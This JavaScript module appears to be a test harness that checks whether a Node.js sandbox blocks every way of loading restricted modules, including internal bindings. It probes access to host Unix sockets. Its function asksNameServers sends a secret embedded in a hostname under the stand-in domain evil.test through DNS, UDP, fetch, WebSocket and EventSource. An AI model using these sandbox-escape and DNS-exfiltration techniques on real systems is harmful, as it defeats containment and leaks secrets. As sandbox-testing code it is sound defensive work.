import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);

/** Ways to a module of Node's that a sandbox takes away. */
const WAYS = {
  import: async (name) => await import(`node:${name}`),
  'import of the bare name': async (name) => await import(name),
  require: (name) => require(name),
  'process.getBuiltinModule': (name) => process.getBuiltinModule(name),
  'Module._load': (name) => require('node:module')._load(name),
  'process.mainModule': (name) => process.mainModule.require(name),
};

/** What came of each way: the code or name of an error, or what it got. */
async function byEachWay(name, use) {
  const outcomes = {};
  for (const [way, load] of Object.entries(WAYS))
    outcomes[`${name} by ${way}`] = await settle(async () => use(await load(name)));
  return outcomes;
}

async function settle(attempt) {
  try {
    return `got ${String(await attempt())}`;
  } catch (error) {
    return String(error?.code ?? error?.name);
  }
}

function connected(socket) {
  return new Promise((resolve, reject) => {
    socket.on('connect', () => resolve('connected'));
    socket.on('error', reject);
  });
}

function listening(server, path) {
  return new Promise((resolve, reject) => {
    server.on('error', reject);
    server.listen(path, () => resolve('listening'));
  });
}

/** Connects to a Unix socket of the host's, and listens on one beside it. */
export async function usesUnixSockets({ path, mine }) {
  return {
    ...(await byEachWay('net', (net) => connected(net.connect(path)))),
    ...(await byEachWay('http', (http) => connected(http.get({ socketPath: path, path: '/' })))),
    listen: await settle(async () => await listening((await import('node:net')).createServer(), mine)),
    'listen by require': await settle(async () => await listening(require('node:net').createServer(), mine)),
    'the class of a handle': await settle(() => {
      const { Pipe, PipeConnectWrap, constants } = process.binding('pipe_wrap');
      return new Pipe(constants.SOCKET).connect(new PipeConnectWrap(), path, () => undefined);
    }),
    stat: await settle(() => require('node:fs').statSync(path).mode),
    open: await settle(() => require('node:fs').openSync(path, 'r+')),
  };
}

/** Asks a name server of an attacker's for a name that says a secret. */
export async function asksNameServers({ port, secret }) {
  const name = `${secret}.evil.test`;
  return {
    ...(await byEachWay('dns', (dns) => {
      const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 });
      resolver.setServers([`127.0.0.1:${port}`]);
      return resolver.resolveTxt(name);
    })),
    ...(await byEachWay('dns', (dns) => dns.promises.lookup(name))),
    'dns/promises': await settle(async () => await (await import('node:dns/promises')).resolve4(name)),
    dgram: await settle(async () => {
      const socket = (await import('node:dgram')).createSocket('udp4');
      await new Promise((resolve, reject) =>
        socket.send(name, port, '127.0.0.1', (error) => (error ? reject(error) : resolve())),
      );
      return 'sent';
    }),
    'process.binding': await settle(() => new (process.binding('cares_wrap').GetAddrInfoReqWrap)()),
    'global fetch': await settle(async () => (await fetch(`http://${name}/`)).status),
    WebSocket: await settle(() => new WebSocket(`ws://127.0.0.1:${port}/`).url),
    EventSource: await settle(() => new EventSource(`http://127.0.0.1:${port}/`).url),
  };
}
